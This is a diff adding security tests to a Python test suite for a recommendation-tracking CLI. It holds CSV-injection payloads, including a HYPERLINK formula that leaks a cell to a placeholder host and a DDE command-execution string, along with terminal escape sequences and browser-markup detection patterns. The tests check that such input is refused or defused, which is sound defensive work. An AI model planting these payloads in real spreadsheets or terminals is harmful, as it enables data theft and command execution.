@@ -3,7 +3,9 @@
 
 Usage: cli_test.py PATH/TO/followup
 """
+import csv
 import hashlib
+import io
 import json
 import os
 import re
@@ -17,6 +19,7 @@ FOLLOWUP = None
 HERE = os.path.dirname(os.path.abspath(__file__))
 MEMOS = os.path.join(HERE, "..", "data", "memos")
 SEED = os.path.join(MEMOS, "000_126856058e4a29d7.txt")
+EVIDENCE = os.path.join(HERE, "..", "data", "evidence")
 
 
 def read_json(path):
@@ -101,13 +104,18 @@ def compare_subset(test, expected, actual, where):
         test.assertEqual(expected, actual, where)
 
 
-class CliTest(unittest.TestCase):
+class StoreTest(unittest.TestCase):
+    """A test with a fresh store in its own temporary folder."""
+
     def setUp(self):
         self.tmp = tempfile.TemporaryDirectory()
         self.store = Store(self.tmp.name)
 
     def tearDown(self):
         self.tmp.cleanup()
+
+
+class CliTest(StoreTest):
 
     def test_dry_run_matches_every_expected_file(self):
         count = 0
@@ -239,7 +247,61 @@ class CliTest(unittest.TestCase):
         self.assertNotEqual(r.returncode, 0)
         r = self.store.run("import", os.path.join(self.tmp.name, "missing.txt"))
         self.assertEqual(r.returncode, 1)
-        self.assertIn("cannot read", r.stderr.decode())
+        self.assertIn("cannot read '" + os.path.join(self.tmp.name, "missing.txt") + "': No such file",
+                      r.stderr.decode())
+
+    def test_outside_files_are_read_bounded_and_only_if_regular(self):
+        self.store.ok("import", SEED)
+        before = dump(self.store.path)
+        fifo = os.path.join(self.tmp.name, "fifo")
+        os.mkfifo(fifo)
+        refusals = [
+            (["import", "/dev/zero"], "followup: '/dev/zero' is a character device, not a regular file"),
+            (["import", self.tmp.name], f"followup: '{self.tmp.name}' is a directory, not a regular file"),
+            (["import", fifo], f"followup: '{fifo}' is a FIFO (named pipe), not a regular file"),
+            (["respond", "PLACMI-2#1", "--file", "/dev/zero"],
+             "followup: '/dev/zero' is a character device, not a regular file"),
+            (["report-progress", "PLACMI-2#1", "--unit", "MMS", "--status", "in_progress", "--text", "x",
+              "--evidence", "/dev/urandom"], "followup: '/dev/urandom' is a character device, not a regular file"),
+        ]
+        for args, message in refusals:
+            with self.subTest(args=args):
+                r = self.store.run(*args)
+                self.assertEqual(r.returncode, 1, r.stderr.decode())
+                self.assertEqual(r.stderr.decode(), message + "\n")
+        big = os.path.join(self.tmp.name, "big.json")
+        with open(big, "w") as f:
+            f.write(" " * (1024 * 1024 + 1))
+        r = self.store.run("respond", "PLACMI-2#1", "--file", big)
+        self.assertEqual((r.returncode, r.stderr.decode()),
+                         (1, f"followup: '{big}' is larger than the limit of 1048576 bytes\n"))
+        r = self.store.run("import", "-", stdin=b"a" * (20 * 1024 * 1024 + 1))
+        self.assertEqual((r.returncode, r.stderr.decode()),
+                         (1, "followup: standard input is larger than the limit of 20971520 bytes\n"))
+        small = os.path.join(self.tmp.name, "notes.txt")
+        with open(small, "w") as f:
+            f.write("twelve bytes")
+        r = self.store.run("--as", "x", "close", "PLACMI-2#1", "--outcome", "implemented", "--evidence", small,
+                           env_extra={"FOLLOWUP_EVIDENCE_MAX_BYTES": "11"})
+        self.assertEqual((r.returncode, r.stderr.decode()),
+                         (1, f"followup: '{small}' is larger than the limit of 11 bytes\n"))
+        self.assertEqual(before, dump(self.store.path))
+
+    def test_numeric_settings_are_strict(self):
+        cases = {"99999999999999999999": "is too large (at most 1073741824)",
+                 " 10": "is not a whole number (digits 0-9 only)",
+                 "10 ": "is not a whole number (digits 0-9 only)",
+                 "1e3": "is not a whole number (digits 0-9 only)",
+                 "0x10": "is not a whole number (digits 0-9 only)",
+                 "-5": "is not a whole number (digits 0-9 only)",
+                 "0": "is too small (at least 1)",
+                 "": "is empty"}
+        for value, problem in cases.items():
+            with self.subTest(value=value):
+                r = self.store.run("close", "PLACMI-2#1", "--outcome", "implemented",
+                                   env_extra={"FOLLOWUP_EVIDENCE_MAX_BYTES": value})
+                self.assertEqual((r.returncode, r.stderr.decode()),
+                                 (1, f"followup: FOLLOWUP_EVIDENCE_MAX_BYTES '{value}' {problem}\n"))
 
     def test_show_json(self):
         self.store.ok("import", SEED)
@@ -248,6 +310,65 @@ class CliTest(unittest.TestCase):
         self.assertEqual(shown["responsible"], ["MMS", "MPRP"])
         self.assertEqual(shown["days_overdue"], 3)
         self.assertEqual([h["action"] for h in shown["history"]], ["import"])
+
+# What a spreadsheet would run, as OWASP's CSV-injection page lists it.
+FORMULAS = ['=HYPERLINK("http://x?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1",
+            " =1", "\uff1d1+1", "\uff20SUM(1)"]
+
+
+def formula_memo(texts):
+    """A Markdown memo with one recommendation per text, all for MMS."""
+    rows = "\n".join(f"| {i + 1} | {t.replace('|', chr(92) + '|')} | Director, MMS | 2004-12-15 |"
+                     for i, t in enumerate(texts))
+    return ("# MEMORANDUM\n\n**To:** Director, MMS\n**From:** The Director General\n**Date:** 2004-11-02\n"
+            "**Subject:** Evaluation of the Formula Pilot (FP)\n\n## Proposal for follow-up on Recommendations\n\n"
+            "| No. | Recommendation | Responsibility for Follow-up | Confirmation of follow-up due by |\n"
+            "|----:|---|---|---|\n" + rows + "\n")
+
+
+def formula_cells(csv_text):
+    """The cells of a CSV output that a spreadsheet would read as a formula."""
+    bad = []
+    for row in csv.reader(io.StringIO(csv_text, newline="")):
+        for cell in row:
+            if cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d",
+                                                                 "\uff20"):
+                bad.append(cell)
+    return bad
+
+
+class CsvInjectionTest(StoreTest):
+    """Every CSV the program writes keeps hostile text as text."""
+
+    def test_no_csv_cell_starts_a_formula(self):
+        s = self.store
+        memo = os.path.join(self.tmp.name, "formulas.md")
+        # A memo line cannot carry a carriage return: the reader ends the line there.
+        in_memo = [f for f in FORMULAS if "\r" not in f]
+        with open(memo, "w", encoding="utf-8") as f:
+            f.write(formula_memo(in_memo))
+        s.ok("--as", "eva", "import", memo)
+        s.ok("--as", "root", "user", "add", "mms", "--role", "unit", "--unit", "MMS")
+        s.ok("--as", "eva", "issue", "FP", "--as-of", "2004-11-03")
+        # Typed text refuses a lone carriage return, so it goes in by the memo's neighbours only.
+        typed = [f for f in FORMULAS if "\r" not in f]
+        for i, text in enumerate(typed):
+            ref = f"FP#{i + 1}"
+            s.ok("--as", "mms", "respond", ref, "--unit", "MMS", "--decision", "accepted", "--action",
+                 f"{text.replace('|', '/')}|MMS|2004-12-01", "--as-of", "2004-11-10")
+            s.ok("--as", "mms", "report-progress", ref, "--unit", "MMS", "--status", "in_progress", "--text", text,
+                 "--as-of", "2004-11-20")
+        outputs = {"list": s.ok("--as", "eva", "list", "--csv", "--as-of", "2005-06-01")}
+        for kind in (["status"], ["overdue"], ["rates"], ["unit", "MMS"]):
+            outputs[kind[0]] = s.ok("--as", "eva", "report", *kind, "--format", "csv", "--as-of", "2005-06-01")
+        for name, out in outputs.items():
+            with self.subTest(output=name):
+                self.assertEqual(formula_cells(out), [], out)
+        # The payloads are there, kept as text behind a quote.
+        self.assertIn("'=HYPERLINK(\"http://x?x=\"&A1,\"click\")", next(csv.reader(io.StringIO(
+            outputs["list"].splitlines()[1]))))
+        self.assertIn("'@SUM(1+1)", outputs["overdue"])
+        self.assertIn("'-2+3", outputs["unit"])
 
 
 class WorkflowTest(unittest.TestCase):
@@ -318,6 +439,148 @@ class WorkflowTest(unittest.TestCase):
         self.assertEqual(r.returncode, 1)
         self.assertIn("no user 'nobody'", r.stderr.decode())
         self.assertEqual(before, dump(self.store.path))
+
+    def test_small_mistakes_are_clear_errors_that_change_nothing(self):
+        before = dump(self.store.path)
+        mprp_file = os.path.join(self.tmp.name, "mprp-again.json")
+        with open(mprp_file, "w") as f:
+            json.dump({"unit": "MPRP", "decision": "accepted"}, f)
+        done = str(self.action_ids[0])
+        cases = [
+            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "", "--as-of", "2001-10-20"),
+             1, "followup: --comment is empty\n"),
+            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "  ", "--as-of",
+              "2001-10-20"), 1, "followup: --comment is empty\n"),
+            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text", "x",
+              "--action-done", done, "--action-done", done, "--as-of", "2001-10-15"),
+             1, f"followup: action {done} is given twice as done\n"),
+            (("eva", "list", "--unit", ""), 1, "followup: --unit is empty\n"),
+            (("eva", "list", "--as-of", ""), 1, "followup: --as-of is empty\n"),
+            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "x", "--as-of", ""),
+             1, "followup: --as-of is empty\n"),
+            (("eva", "edit", "PLACMI-2#1", "--units", ",,,"), 1, "followup: no unit given\n"),
+            (("mms", "respond", "PLACMI-2#2", "--file", mprp_file, "--unit", "MMS"),
+             1, f"followup: --unit 'MMS' conflicts with the unit 'MPRP' in {mprp_file}\n"),
+            (("mprp", "respond", "PLACMI-2#2", "--file", mprp_file, "--decision", "accepted"),
+             1, "followup: --file cannot be combined with --decision, --rationale or --action\n"),
+        ]
+        for (user, *args), code, message in cases:
+            with self.subTest(args=args):
+                r = self.as_(user, *args)
+                self.assertEqual((r.returncode, r.stderr.decode()), (code, message))
+        r = self.as_("dg", "report", "status", "--format", "csv", "--json")
+        self.assertEqual(r.returncode, 2)
+        self.assertIn("--format excludes --json", r.stderr.decode())
+        self.assertEqual(r.stdout, b"")
+        r = self.as_("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
+                     "x", "--as-of", "9999-12-31")
+        self.assertEqual(r.returncode, 1)
+        self.assertRegex(r.stderr.decode(), r"^followup: cannot report progress on PLACMI-2#1: it is dated 9999-12-31, "
+                                            r"after today \(\d{4}-\d\d-\d\d\); nothing is dated in the future\n$")
+        self.assertEqual(before, dump(self.store.path))
+
+    def test_typed_text_refuses_control_characters(self):
+        before = dump(self.store.path)
+        deep = os.path.join(self.tmp.name, "deep.json")
+        with open(deep, "w") as f:
+            f.write('{"unit": "MPRP", "decision": "accepted", "x": ' + "[" * 64 + "]" * 64 + "}")
+        bell = os.path.join(self.tmp.name, "bell.json")
+        with open(bell, "w") as f:
+            json.dump({"decision": "partially_accepted", "rationale": "why\u0007"}, f)
+        cases = [
+            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
+              "a\x1b[2J", "--as-of", "2001-10-15"),
+             "followup: --text contains a control character (U+001B) at byte 1\n"),
+            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
+              b"ok\xff", "--as-of", "2001-10-15"), "followup: --text is not valid UTF-8 at byte 2\n"),
+            (("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress", "--text",
+              "x" * 65537, "--as-of", "2001-10-15"), "followup: --text is longer than 65536 bytes\n"),
+            (("ba", "add-action", "PLACMI-2#1", "--unit", "MRF-BA", "--action", "Do\rit|MRF-BA|2001-12-31",
+              "--as-of", "2001-10-15"),
+             "followup: --action's description contains a control character (U+000D) at byte 2\n"),
+            (("eva", "validate", "PLACMI-2#1", "--rating", "implemented", "--comment", "seen\u009b",
+              "--as-of", "2001-10-20"), "followup: --comment contains a control character (U+009B) at byte 4\n"),
+            (("eva", "close", "PLACMI-2#1", "--outcome", "implemented", "--waive-evidence", "\x7f",
+              "--as-of", "2001-10-20"),
+             "followup: --waive-evidence contains a control character (U+007F) at byte 0\n"),
+            (("mprp", "respond", "PLACMI-2#1", "--file", bell),
+             f"followup: {bell}: rationale contains a control character (U+0007) at byte 3\n"),
+            (("mprp", "respond", "PLACMI-2#1", "--file", deep), f"followup: {deep}: nested deeper than 64 levels\n"),
+            (("root", "user", "add", "x", "--role", "viewer", "--full-name", "X\x1b]0;owned\x07"),
+             "followup: full name contains a control character (U+001B) at byte 1\n"),
+            (("eva", "unit", "add", "FIN", "--name", "Fin\x1b[8m"),
+             "followup: name contains a control character (U+001B) at byte 3\n"),
+        ]
+        for (user, *args), message in cases:
+            with self.subTest(args=[a[:40] for a in args]):
+                r = self.as_(user, *args)
+                self.assertEqual((r.returncode, r.stderr.decode()), (1, message))
+        self.assertEqual(before, dump(self.store.path))
+
+    def test_text_output_escapes_terminal_controls(self):
+        # Text stored before the checks existed (or written by hand) must not drive the terminal.
+        conn = sqlite3.connect(self.store.path)
+        conn.execute("UPDATE recommendations SET text = 'Clear \x1b[2J\x1b]0;owned\x07 \u202eadd \u009b31m' "
+                     "WHERE number = 1")
+        conn.execute("UPDATE key_actions SET description = 'Meet \x1b[8mhidden'")
+        conn.commit()
+        conn.close()
+        outputs = {
+            "show": self.store.run("--as", "eva", "show", "PLACMI-2#1", "--as-of", "2002-01-10"),
+            "list": self.store.run("--as", "eva", "list", "--as-of", "2002-01-10"),
+            "memo text": self.store.run("--as", "eva", "memo", "PLACMI-2"),
+            "memo markdown": self.store.run("--as", "eva", "memo", "PLACMI-2", "--format", "markdown"),
+            "report overdue": self.store.run("--as", "eva", "report", "overdue", "--as-of", "2002-01-10"),
+            "report unit": self.store.run("--as", "eva", "report", "unit", "MRF-BA", "--as-of", "2002-01-10",
+                                          "--format", "markdown"),
+        }
+        for name, r in outputs.items():
+            with self.subTest(output=name):
+                self.assertEqual(r.returncode, 0, r.stderr.decode())
+                for raw in (b"\x1b", b"\x07", "\u202e".encode(), "\u009b".encode()):
+                    self.assertNotIn(raw, r.stdout)
+        self.assertIn(b"Clear \\x1B[2J\\x1B]0;owned\\x07 \\u202Eadd \\u009B31m", outputs["show"].stdout)
+        self.assertIn(b"Meet \\x1B[8mhidden", outputs["report overdue"].stdout)
+        self.assertIn(b"\\x1B[2J", outputs["memo markdown"].stdout)
+
+    def test_evidence_names_are_made_safe_and_the_original_kept_in_history(self):
+        hostile = os.path.join(self.tmp.name, "minutes\x1b[31m\u202etxt.pdf")
+        with open(hostile, "wb") as f:
+            f.write(b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
+        self.store.ok("--as", "ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status",
+                      "in_progress", "--text", "Minutes attached", "--evidence", hostile, "--as-of", "2001-10-15")
+        shown = self.store.json("--as", "eva", "show", "PLACMI-2#1", "--json", "--history", "--as-of", "2001-10-16")
+        self.assertEqual(shown["evidence"][0]["name"], "minutes[31mtxt.pdf")
+        after = shown["history"][-1]["after"]
+        self.assertEqual(after["evidence"][0]["name"], "minutes[31mtxt.pdf")
+        self.assertEqual(after["evidence"][0]["original_name"], "minutes\\x1B[31m\\u202Etxt.pdf")
+
+    def test_evidence_is_judged_as_a_browser_would(self):
+        before = dump(self.store.path)
+        refused = {
+            "hostile-pdf-with-html.pdf": "(application/pdf) contains markup a browser would run ('<html')",
+            "hostile-svg-after-text.txt": "(text/plain) contains markup a browser would run ('<svg')",
+            "hostile-onerror.txt": "(text/plain) contains markup a browser would run ('onerror=')",
+            "hostile-javascript-url.txt": "(text/plain) contains markup a browser would run ('javascript:')",
+            "hostile-utf16-script.txt": "is text/html, which is not an allowed type",
+            "hostile-python.txt": "is text/x-script.python, which is not an allowed type",
+        }
+        for name, problem in refused.items():
+            with self.subTest(file=name):
+                r = self.as_("ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status", "in_progress",
+                             "--text", "See attached", "--evidence", os.path.join(EVIDENCE, name),
+                             "--as-of", "2001-10-15")
+                self.assertEqual((r.returncode, r.stderr.decode()), (1, f"followup: evidence '{name}' {problem}\n"))
+        self.assertEqual(before, dump(self.store.path))
+        # The office may allow a type explicitly, and plain files pass.
+        r = self.store.run("--as", "ba", "report-progress", "PLACMI-2#1", "--unit", "MRF-BA", "--status",
+                           "in_progress", "--text", "See attached", "--evidence",
+                           os.path.join(EVIDENCE, "hostile-pdf-with-html.pdf"), "--evidence",
+                           os.path.join(EVIDENCE, "plain-minutes.pdf"), "--evidence",
+                           os.path.join(EVIDENCE, "plain-notes.txt"), "--as-of", "2001-10-15",
+                           env_extra={"FOLLOWUP_EVIDENCE_ALLOW_ACTIVE": "application/pdf"})
+        self.assertEqual(r.returncode, 0, r.stderr.decode())
+        self.assertEqual(r.stdout.decode().count("  evidence "), 3)
 
     def test_closing_needs_evidence_then_succeeds_with_it(self):
         r = self.as_("eva", "close", "PLACMI-2#1", "--outcome", "implemented", "--as-of", "2001-11-01")
